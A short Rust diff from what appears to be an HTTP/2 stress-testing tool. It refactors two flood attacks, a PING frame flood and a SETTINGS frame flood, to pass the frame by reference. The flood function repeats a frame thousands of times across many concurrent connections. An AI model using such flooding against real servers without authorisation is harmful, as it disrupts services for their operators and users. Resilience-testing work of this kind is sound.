@@ -11,18 +11,18 @@ pub(super) const PING: Attack = Attack {
     name: "ping_flood",
     is_quick: true,
     edges: 0,
-    run: |target, duration| flood(target, duration, frame(PING_FRAME, 0, 0, b"hopscope")),
+    run: |target, duration| flood(target, duration, &frame(PING_FRAME, 0, 0, b"hopscope")),
 };
 
 pub(super) const SETTINGS: Attack = Attack {
     name: "settings_flood",
     is_quick: false,
     edges: 0,
-    run: |target, duration| flood(target, duration, frame(SETTINGS_FRAME, 0, 0, &[])),
+    run: |target, duration| flood(target, duration, &frame(SETTINGS_FRAME, 0, 0, &[])),
 };
 
 /// Sends a frame as fast as the server reads, on connection after connection.
-fn flood(target: Target, duration: Duration, frame: Vec<u8>) -> Attacking {
+fn flood(target: Target, duration: Duration, frame: &[u8]) -> Attacking {
     let bytes = [preface(), frame.repeat(10_000)].concat();
     Box::pin(async move {
         let mut clients = JoinSet::new();
